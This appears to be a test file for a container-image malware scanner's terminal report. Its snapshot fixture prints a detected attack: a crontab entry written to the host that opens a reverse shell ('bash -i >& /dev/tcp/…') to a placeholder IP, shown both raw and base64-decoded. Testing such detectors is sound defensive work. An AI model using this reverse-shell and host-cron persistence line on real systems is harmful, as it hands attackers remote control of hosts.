import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { hostileReport } from '../../testing/hostile-report.ts';
import { sampleReport } from '../../testing/sample-report.ts';
import { displayWidth } from './display-width.ts';
import { textReport } from './text.ts';

const plain = { colour: false, verbose: false };
const unsafe =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]|[\ud800-\udfff](?![\udc00-\udfff])(?<![\ud800-\udbff][\udc00-\udfff])/;

test('the page people see', () => {
  expect(textReport(sampleReport(), plain)).toMatchInlineSnapshot(`
    "  MALICIOUS   registry.example/someone/tomcat11:latest   linux/amd64   sha256:aaaaaaaaaaaa…

      If you run it:
        ENTRYPOINT /bin/sh /run.sh                                             layer 3  COPY file:4f in /run.sh
        └─ adds a job to the HOST's crontab, through /mnt/etc (every minute)   run.sh:4  T1053.003 T1611
           └─ hands an interactive bash to 192.0.2.44:8443 (reverse shell)     run.sh:4  T1059.004
        HEALTHCHECK /usr/bin/probe → the program /usr/bin/probe

      malicious  Adds a job to the host's crontab through /mnt/etc   host-cron  T1053.003  T1611
                 /run.sh:4, layer 3, COPY file:4f in /run.sh; runs when the image runs
                 The path is a folder of the host when the container is started as its description says.
                   the line that does it
                   | echo "* * * * * root bash -i >& /dev/tcp/192.0.2.44/8443 0>&1" >> /mnt/etc/crontab
                   decoded by base64
                   | bash -i >& /dev/tcp/192.0.2.44/8443 0>&1
      suspicious Hands an interactive shell to 192.0.2.44:8443       reverse-shell  T1059.004
                 config Entrypoint; runs when the image runs
                   | bash -i
      note       Carries nmap                                        dual-use-tool

      1 malicious · 1 suspicious · 1 note      indicators: 192.0.2.44:8443, pool.invalid:3333
      3 layers, 181 MB, 9,273 files in 0.9 s (2 layers cached)
    "
  `);
});

test('of a chain the worst comes first, its steps below it', () => {
  const sample = sampleReport();
  const text = textReport({ ...sample, chains: [{ id: 'f1', head: 0, steps: [1, 0, 2] }] }, plain);
  const findings = text.slice(text.indexOf('\n  malicious'), text.indexOf('1 malicious'));
  expect(findings).toMatch(
    /^\n {2}malicious {2}Adds[\s\S]*\n {13}before that:\n {15}suspicious Hands [\s\S]*\n {13}then:\n {15}note {7}Carries nmap/,
  );
  expect(findings.match(/Hands an interactive shell/g)).toHaveLength(1);
});

test('what fires later is shown once something was found in it', () => {
  const [finding] = sampleReport().findings;
  const findings = finding === undefined ? [] : [{ ...finding, effects: [2], stage: 2, start: 2 }];
  const text = textReport(sampleReport({ findings }), plain);
  expect(text).toContain('Later, by itself:\n');
  expect(text).toMatch(/cron: @daily root \/opt\/x\n +└─ downloads http:\/\/‹\$HOST›\/x +x:1/);
  expect(textReport(sampleReport(), plain)).not.toContain('Later');
  expect(textReport(sampleReport(), { colour: false, verbose: true })).toContain('Later');
});

test('an image that starts nothing, and one with gaps, say so', () => {
  const gaps = Array.from({ length: 12 }, (_, layer) => ({
    reason: 'limit' as const,
    detail: 'too large',
    layer,
    path: '/x',
  }));
  const report = sampleReport({ verdict: 'incomplete', complete: false, gaps, findings: [] });
  const text = textReport({ ...report, story: { ...report.story, starts: [] } }, plain);
  expect(text).toContain('INCOMPLETE   registry.example/someone/tomcat11:latest');
  expect(text).toContain('If you run it: nothing');
  expect(text).toMatch(/Not inspected:\n {4}limit {2}too large +\/x, layer 1\n/);
  expect(text).toContain('… and 2 more (--verbose)');
  expect(textReport(report, { colour: false, verbose: true })).not.toContain('--verbose');
});

describe('colours', () => {
  test('none unless asked for', () => {
    expect(textReport(sampleReport(), plain)).not.toContain('\u001b');
  });

  test('they change nothing but the colour', () => {
    const coloured = textReport(sampleReport(), { colour: true, verbose: true });
    expect(coloured).toContain('\u001b[31m');
    expect(coloured.replace(/\u001b\[\d+m/g, '')).toBe(textReport(sampleReport(), { colour: false, verbose: true }));
  });
});

describe('hostile text', () => {
  test.each([false, true])('never reaches the terminal as it is (verbose: %s)', (verbose) => {
    fc.assert(
      fc.property(hostileReport, (report) => {
        const text = textReport(report, { colour: false, verbose });
        expect(text.isWellFormed()).toBe(true);
        expect(text).not.toMatch(unsafe);
      }),
      { numRuns: 60 },
    );
  });

  test.each([60, 80, 120])('makes no line wider than %i columns', (width) => {
    fc.assert(
      fc.property(hostileReport, (report) => {
        for (const line of textReport(report, { colour: false, verbose: false, width }).split('\n'))
          expect(displayWidth(line)).toBeLessThanOrEqual(width);
      }),
      { numRuns: 30 },
    );
  });
});
